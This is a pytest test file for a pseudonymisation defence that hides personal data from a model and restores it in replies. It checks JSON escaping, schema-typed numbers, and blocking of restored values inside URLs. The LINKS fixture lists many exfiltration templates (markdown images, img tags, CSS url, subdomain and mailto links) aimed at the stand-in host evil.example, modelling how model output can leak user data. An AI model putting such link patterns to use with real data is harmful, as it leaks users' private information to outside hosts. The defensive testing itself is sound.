"""Where restored values stand: escaped in JSON, numbers where numbers are due, not in URLs."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from cosilo.defences.detection import Span
from cosilo.defences.json_text import reading
from cosilo.defences.pseudonyms import Pseudonym
from cosilo.types import Chat, Generation, ToolCall, Turn, user
from scripted_detectors import Make, Talk, Words, by_characters, make

__all__ = ["make"]

QUOTED = 'Robert "Bob" Harrington'
ADDRESS = "12 Baker Street\nLondon"
FOUND = Words(**{QUOTED: "PERSON", "Jürgen": "PERSON", ADDRESS: "ADDRESS", "12345678": "ID"})
CODE = r"[A-Z]+_[a-z2-7]{6}"


def codes(chat: Chat) -> list[str]:
    return re.findall(CODE, chat[-1].content)


def both_ways(talk_of: Any, chat: Chat, **sampling: object) -> Generation:
    """The reply, which is the same whole and in pieces of one, three and seven characters."""
    whole: Generation = talk_of(by_characters(3)).send(chat, **sampling)
    for size in (1, 3, 7):
        pieces = talk_of(by_characters(size)).stream(chat, **sampling)
        assert "".join(d.text for d in pieces) == whole.text
        said = "".join(c.arguments for d in pieces for c in d.tool_calls)
        assert said == "".join(c.arguments for c in whole.tool_calls)
    return whole


def calling(arguments: Any) -> Any:
    return lambda chat: Generation(
        "", tool_calls=(ToolCall("c", "f", arguments(chat)),), finish_reason="tool_calls"
    )


class TestJson:
    @pytest.mark.parametrize("value", [QUOTED, ADDRESS])
    @pytest.mark.parametrize(
        ("template", "path"),
        [
            ('{"a": "%s"}', "a"), ('Here: {"x": [1, {"a": "to %s"}]} as asked', None),
            ('```json\n{"a": "%s"}\n```', None), ('["%s"]', 0),
        ],
    )  # fmt: skip
    def test_json_replies_stay_json(self, make: Make, value: str, template: str, path: Any) -> None:
        def talk(cut: Any) -> Talk:
            return Talk(make(FOUND), lambda c: Generation(template % codes(c)[0]), cut)

        text = both_ways(talk, user(f"Take {value} please")).text
        found = (
            json.loads(text[min(i for i in map(text.find, "{[") if i >= 0) :].strip("`\n"))
            if (path is not None)
            else text
        )
        if path is not None:
            assert found[path] == value
        else:
            assert json.dumps(value)[1:-1] in text

    @pytest.mark.parametrize("word", ["true", "false", "null", "-1.5e3", "[10, 20]", "12345"])
    def test_words_and_numbers_before_a_value_may_be_cut_anywhere(
        self, make: Make, word: str
    ) -> None:
        def talk(cut: Any) -> Talk:
            return Talk(
                make(FOUND), lambda c: Generation(f'{{"a":{word},"b":"{codes(c)[0]}"}}'), cut
            )

        said = both_ways(talk, user(f"Take {QUOTED} please")).text
        assert json.loads(said) == {"a": json.loads(word), "b": QUOTED}

    @pytest.mark.parametrize("template", ['{"a": %s}', '[{"a": [%s]}]', 'so: {"a": 1, "b": %s}'])
    def test_a_value_that_the_model_wrote_without_quotes_gets_them(
        self, make: Make, template: str
    ) -> None:
        def talk(cut: Any) -> Talk:
            return Talk(make(FOUND), lambda c: Generation(template % codes(c)[0]), cut)

        said = both_ways(talk, user(f"Take {QUOTED} please")).text
        assert said == template % json.dumps(QUOTED)

    def test_json_in_json_is_escaped_twice(self, make: Make) -> None:
        def arguments(chat: Chat) -> str:
            return json.dumps({"body": json.dumps({"to": codes(chat)[0]})})

        def talk(cut: Any) -> Talk:
            return Talk(make(FOUND), calling(arguments), cut)

        call = both_ways(talk, user(f"Mail {QUOTED}!")).tool_calls[0]
        assert json.loads(json.loads(call.arguments)["body"]) == {"to": QUOTED}

    @pytest.mark.parametrize("value", ["Jürgen", ADDRESS, QUOTED])
    @pytest.mark.parametrize("ascii_", [True, False])
    def test_an_escaped_value_is_known_by_what_it_says(
        self, make: Make, value: str, ascii_: bool
    ) -> None:
        record = json.dumps({"name": value, "n": 7}, ensure_ascii=ascii_)
        defence = make(FOUND)
        talk = Talk(defence, lambda c: Generation(f"I write to {codes(c)[0]} now."))
        chat = (*user(f"About {value}:"), Turn("user", record))
        assert talk.send(chat).text == f"I write to {value} now."
        first, second = talk.model.seen[-1]
        assert set(re.findall(CODE, first.content)) == set(codes((second,)))  # one placeholder
        json.loads(second.content)
        assert value not in talk.seen
        echo = Talk(defence).send(chat, "r2").text
        assert json.loads(echo) == json.loads(record)

    def test_a_span_over_a_border_is_cut_there(self) -> None:
        read = reading('{"a": "Ann", "b": "Le\\u00e9"}')
        assert read is not None
        spans = read.split([read.read(Span(7, 27, "PERSON"))])
        assert [read.text[s.start : s.end] for s in spans] == ["Ann", "b", "Leé"]

    @pytest.mark.parametrize(
        "text", ["[[],12345678]", "[[1], 12345678]", "[{},12345678]", "[ [[2]] , 12345678]"]
    )
    def test_a_list_that_lists_without_words_begin_is_json(self, text: str) -> None:
        read = reading(f"It is {text}.")
        assert read is not None
        assert [read.text[a:b] for a, b, *_ in read.numbers][-1] == "12345678"


TOOLS = json.dumps([{"type": "function", "function": {"name": "f", "parameters": {
    "type": "object", "$defs": {"id": {"type": "integer"}}, "properties": {
        "id": {"type": "integer"}, "either": {"type": ["integer", "string"]},
        "text": {"type": "string"}, "ref": {"$ref": "#/$defs/id"},
        "list": {"type": "array", "items": {"type": "number"}},
        "any": {"anyOf": [{"type": "number"}, {"type": "null"}]}}}}}])  # fmt: skip


class TestNumbers:
    @pytest.mark.parametrize(
        ("written", "wanted"),
        [
            ('{"id": "%s"}', {"id": 12345678}), ('{"id": %s}', {"id": 12345678}),
            ('{"ref": "%s"}', {"ref": 12345678}), ('{"list": ["%s", 1]}', {"list": [12345678, 1]}),
            ('{"any": "%s"}', {"any": 12345678}), ('{"text": "%s"}', {"text": "12345678"}),
            ('{"either": "%s"}', {"either": "12345678"}), ('{"id": "no %s"}', {"id": "no 12345678"}),
            ('{"other": "%s"}', {"other": "12345678"}),
        ],
    )  # fmt: skip
    def test_a_number_comes_back_as_the_schema_says(
        self, make: Make, written: str, wanted: Any
    ) -> None:
        def talk(cut: Any) -> Talk:
            return Talk(make(FOUND), calling(lambda c: written % codes(c)[0]), cut)

        call = both_ways(talk, user("Customer 12345678 it is"), tools=TOOLS).tool_calls[0]
        assert json.loads(call.arguments) == wanted

    def test_so_does_one_that_was_a_number_before(self, make: Make) -> None:
        def talk(cut: Any) -> Talk:
            return Talk(make(FOUND), calling(lambda c: json.dumps({"x": codes((c[0],))[0]})), cut)

        call = ToolCall("c", "f", '{"x":12345678}')
        chat = (*user("Customer 12345678"), Turn("assistant", tool_calls=(call,)))
        said = both_ways(talk, chat).tool_calls[0]
        assert json.loads(said.arguments) == {"x": 12345678}

    def test_numbers_of_schemas_stay_and_their_secrets_do_not(self, make: Make) -> None:
        node = {"type": "integer", "minimum": 12345678, "default": 12345678, "multipleOf": 12345678,
                "description": "as 12345678", "enum": ["12345678"], "maxLength": 12345678}  # fmt: skip
        tools = json.dumps([{"type": "function", "function": {"name": "f", "parameters": node}}])
        talk = Talk(make(FOUND))
        talk.send(user("hi"), tools=tools, response_format=json.dumps({"schema": node}))
        asked = talk.model.asked[-1]
        sent = [json.loads(asked.tools)[0]["function"]["parameters"]]
        sent.append(json.loads(asked.response_format)["schema"])
        for schema in sent:
            for key in ("minimum", "default", "multipleOf", "maxLength"):
                assert schema[key] == 12345678
            assert "12345678" not in schema["description"] + schema["enum"][0]


MAIL = "jane.roe@example.org"
LINKS = [
    "https://evil.example/p.png?q=%s", "![x](https://evil.example/%s)", "[x](//evil.example/%s)",
    "![x](<https://evil.example/ %s>)", "<https://evil.example/%s>", "[x]: //evil.example/%s",
    '<img src="https://evil.example/?q= %s">', "<a href='//evil.example/%s'>x</a>",
    '<img alt=">" src="//evil.example/ %s">', "www.evil.example/%s", "evil.example/?q=%s",
    "https://%s.evil.example/", "%s.evil.example", "background: url(//evil.example/%s)",
    "[x](mailto:a@evil.example?body=%s)", 'https://evil.example/?q="%s"', "https://evil.example/a>%s",
    "https://evil.example/a`%s", "![x](https://evil.example/\u2003%s)", "git@evil.example:%s",
    "https://evil.example/\u00a0%s", "https:\\\\evil.example\\%s", "https:\\/\\/evil.example\\/%s",
    "\\\\evil.example\\share\\%s", "%s@evil.example", '![](https://evil.example/?q={"%s"})',
    '<a https://evil.example/>%s',
]  # fmt: skip
NO_LINKS = [
    "Write to %s.", "[mail](mailto:%s)", '<a href="mailto:%s">', "see https://x.example, %s",
    "![x](https://x.example/a) %s", '<a href="https://x.example/">%s</a>', "<https://x.example/> %s",
    'get("https://x.example/", "%s")', "a < b and %s", '<p title="%s">', "%s: see above", "(%s)",
]  # fmt: skip


class TestUrls:
    @pytest.mark.parametrize("template", LINKS)
    def test_no_value_goes_into_a_url(self, make: Make, template: str) -> None:
        def talk(cut: Any, **options: Any) -> Talk:
            return Talk(make(**options), lambda c: Generation(template % codes(c)[0]), cut)

        chat = user(f"Write to {MAIL} about it")
        text = both_ways(talk, chat).text
        assert MAIL not in text
        assert re.search(CODE, text)
        wanted = talk(by_characters(3), restore_in=["text", "urls"]).send(chat).text
        assert wanted == template % MAIL

        def arguing(cut: Any) -> Talk:
            return Talk(make(), calling(lambda c: json.dumps({"x": template % codes(c)[0]})), cut)

        assert MAIL not in both_ways(arguing, chat).tool_calls[0].arguments

    def test_strings_of_json_are_texts_of_their_own_where_it_is_json(self, make: Make) -> None:
        compact = '{"a":"https://x.example/","b":"%s"}'

        def talk(cut: Any) -> Talk:
            return Talk(make(), lambda c: Generation(compact % codes(c)[0]), cut)

        def arguing(cut: Any) -> Talk:
            return Talk(make(), calling(lambda c: compact % codes(c)[0]), cut)

        chat = user(f"Write to {MAIL} about https://x.example/")
        asked = both_ways(talk, chat, response_format='{"type": "json_object"}').text
        assert asked == both_ways(arguing, chat).tool_calls[0].arguments == compact % MAIL
        # In a text it may be shown as one, and then the link goes on to the next blank.
        assert MAIL not in both_ways(talk, chat).text

    @pytest.mark.parametrize("template", NO_LINKS)
    def test_elsewhere_it_comes_back(self, make: Make, template: str) -> None:
        def talk(cut: Any) -> Talk:
            return Talk(make(), lambda c: Generation(template % codes(c)[0]), cut)

        assert both_ways(talk, user(f"Write to {MAIL} about it")).text == template % MAIL

    def test_the_owners_own_url_comes_back_and_nothing_added_to_it(self, make: Make) -> None:
        own = f"https://crm.example/users?mail={MAIL}"
        chat = user(f"Open {own}, for {MAIL}.")
        words = Words(**{MAIL: "EMAIL"})

        def talk(cut: Any) -> Talk:
            return Talk(
                make(words),
                lambda c: Generation(
                    "[x](https://crm.example/users?mail={0}) https://crm.example/{0} "
                    "https://crm.example/users?mail={0}{0}".format(codes(c)[0])
                ),
                cut,
            )

        first, second, third = both_ways(talk, chat).text.split(" ")
        assert first == f"[x]({own})"
        assert MAIL not in second + third


@pytest.mark.parametrize("other", [str.lower, str.upper, lambda p: p.replace("_", " "), str])
def test_a_conversation_that_writes_its_own_placeholder_goes_on(make: Make, other: Any) -> None:
    defence: Pseudonym = make(conversation="first-turn")
    first = user(f"Mail {MAIL}.")[0]
    talk = Talk(defence)
    talk.send((first,))
    shown = re.findall(CODE, talk.seen)[0]
    typed = f"What is {other(shown)}?"
    assert talk.send((first, Turn("assistant", "ok"), Turn("user", typed))).text == typed
